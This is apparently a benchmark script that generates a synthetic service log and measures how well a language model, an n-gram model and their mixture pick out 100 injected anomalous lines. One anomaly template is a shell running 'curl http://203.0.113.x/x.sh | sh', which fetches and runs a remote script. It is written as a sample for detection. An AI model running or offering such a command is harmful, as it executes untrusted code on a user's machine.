"""Finding unusual lines of a log that is not in the training text: both parts, and each alone.

A made-up service writes 30,000 ordinary lines, which a model learns. Of 20,000 further lines, 100
are wrong, 25 of each kind: a message that the service never wrote, a typing error, a value that
does not go with the rest of its line, and two names in a line that should be the same. Each model
ranks the lines as `rnnlab score --top 100` does, by bits per character or by the most surprising
token. The precision is the share of wrong ones among the first hundred; by chance it is 0.5%.

    python benchmarks/anomalies.py --seconds 60 --seeds 3
"""

import argparse
from collections.abc import Callable
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np

import rnnlab
from rnnlab.console import counted
from rnnlab.lm.ngram_mixture import NGramMixture

TRAINED, SCORED, WRONG = 30_000, 20_000, 100
NAMES = [
    "anna",
    "ben",
    "carla",
    "dmitri",
    "elena",
    "farid",
    "greta",
    "hugo",
    "ines",
    "jonas",
    "kira",
    "liam",
    "mona",
    "nils",
    "olga",
    "pavel",
    "quinn",
    "rosa",
    "sven",
    "tara",
    "umut",
    "vera",
    "wim",
    "xenia",
    "yara",
    "zoe",
]
JOBS = ["backup", "cleanup", "report", "index", "mail", "billing", "thumbnails", "archive"]
PATHS = {"GET": ["items", "cart", "orders", "search"], "POST": ["cart", "orders", "login"],
         "DELETE": ["cart"]}  # fmt: skip
UNSEEN = (
    "ERROR kernel out of memory, killed process {n} (python)",
    "FATAL certificate of {name}.shop.example has expired",
    "WARN usb device {n} connected by root",
    "INFO shell {name} ran curl http://203.0.113.{b}/x.sh | sh",
    "ERROR raid member sd{c} has failed, array is degraded",
)

Random = np.random.Generator
Message = Callable[[Random, bool], str]


def request(rng: Random, wrong: bool) -> str:
    """Return a line of the web server; wrong: it deletes what is never deleted."""
    method = "DELETE" if wrong else str(rng.choice(list(PATHS), p=[0.7, 0.25, 0.05]))
    path = "orders" if wrong else rng.choice(PATHS[method])
    status = rng.choice([200, 304, 404, 500], p=[0.8, 0.1, 0.08, 0.02])
    size = int(rng.lognormal(7, 1))
    return (
        f"INFO web {method} /api/{path}/{rng.integers(10_000)} status={status} "
        f"user={rng.choice(NAMES)} bytes={size} time={int(rng.lognormal(3, 0.7))}ms"
    )


def login(rng: Random, wrong: bool) -> str:
    """Return a line of a login; wrong: into the home of another user."""
    name, other = rng.choice(NAMES, 2, replace=False)
    address = f"10.{rng.integers(4)}.{rng.integers(256)}.{rng.integers(256)}"
    home = other if wrong else name
    return f"INFO auth user={name} logged in from {address} by password, home=/home/{home}"


def job(rng: Random, wrong: bool) -> str:
    """Return a line of a job; wrong: another one has ended than was started."""
    name, other = rng.choice(JOBS, 2, replace=False)
    ended = other if wrong else name
    place = f"{rng.integers(24):02}:00 on node{rng.integers(9)}"
    return f"INFO cron started {name} at {place}, ended {ended} exit=0"


def disk(rng: Random, wrong: bool) -> str:
    """Return a line about a disk; wrong: a full one that is said to be healthy."""
    used = rng.integers(95, 100) if wrong else rng.integers(20, 95)
    state = "ok" if used < 80 or wrong else "filling"
    return f"INFO disk sd{rng.choice(list('abcd'))}1 used {used}% of 512G, {state}"


def unseen(rng: Random) -> str:
    """Return a message that the service never writes."""
    return str(rng.choice(UNSEEN)).format(
        n=rng.integers(1, 30_000), name=rng.choice(NAMES), b=rng.integers(256),
        c=rng.choice(list("abcd")),
    )  # fmt: skip


def misspelled(rng: Random) -> str:
    """Return an ordinary line with two neighbouring letters of a word exchanged."""
    line = ordinary(rng)
    places = [
        k for k in range(6, len(line) - 1) if line[k : k + 2].isalpha() and line[k] != line[k + 1]
    ]
    k = int(rng.choice(places))
    return line[:k] + line[k + 1] + line[k] + line[k + 2 :]


def ordinary(rng: Random) -> str:
    """Return a line of the service."""
    messages: list[Message] = [request, login, job, disk]
    return messages[rng.choice(4, p=[0.6, 0.2, 0.1, 0.1])](rng, False)


KINDS: dict[str, Callable[[Random], str]] = {
    "unseen message": unseen,
    "typing error": misspelled,
    "wrong value": lambda rng: (request, disk)[rng.integers(2)](rng, True),
    "names that differ": lambda rng: (login, job)[rng.integers(2)](rng, True),
}


def log_lines(rng: Random) -> tuple[list[str], list[str]]:
    """Return lines to be scored, the wrong ones last, and the kinds of these."""
    kinds = [name for name in KINDS for _ in range(WRONG // len(KINDS))]
    lines = [ordinary(rng) for _ in range(SCORED - WRONG)]
    return lines + [KINDS[name](rng) for name in kinds], kinds


def measure(seconds: float, seed: int, folder: Path) -> dict[str, dict[str, float]]:
    """Return the precision of each model and rank, and which share of each kind it finds."""
    rng = np.random.default_rng(seed)
    file = folder / "service.log"
    file.write_text("\n".join(ordinary(rng) for _ in range(TRAINED)), encoding="utf-8")
    lines, kinds = log_lines(rng)
    run = rnnlab.train(
        corpus=str(file), unit="lines", split_order="file", max_seconds=seconds, seed=seed,
        run_dir=folder / f"run-{seed}", quiet=True, automatic=True,
    )  # fmt: skip
    model = rnnlab.load(run)
    both = model.mixture
    assert both is not None
    ngram_alone = np.array([[0.0, 1.0], [0.0, 0.0]])
    found = {}
    for name, mixture in {
        "both": both, "network alone": None, "n-gram alone": NGramMixture(both.table, ngram_alone),
    }.items():  # fmt: skip
        model.mixture = mixture
        scores = model.score(lines)
        ranks = {"bits_per_character": scores.bits_per_character,
                 "worst_bits": scores.token_nats[scores.worst]}  # fmt: skip
        for by, figures in ranks.items():
            first = np.argsort(-figures)[:WRONG] - (SCORED - WRONG)
            hits = [kinds[k] for k in first if k >= 0]
            found[f"{name}, by {by}"] = {"precision": len(hits) / WRONG} | {
                kind: hits.count(kind) / kinds.count(kind) for kind in KINDS
            }
    return found


def main() -> None:
    """Measure and print."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n", 1)[0])
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--seeds", type=int, default=3)
    args = parser.parse_args()
    with TemporaryDirectory() as folder:
        found = [measure(args.seconds, seed, Path(folder)) for seed in range(args.seeds)]
    print(f"{args.seconds:g} s of training, mean of {counted(args.seeds, 'seed')}")
    for name in found[0]:
        means = {key: np.mean([each[name][key] for each in found]) for key in ("precision", *KINDS)}
        print(f"  {name}: " + ", ".join(f"{key} {mean:.0%}" for key, mean in means.items()))


if __name__ == "__main__":
    main()
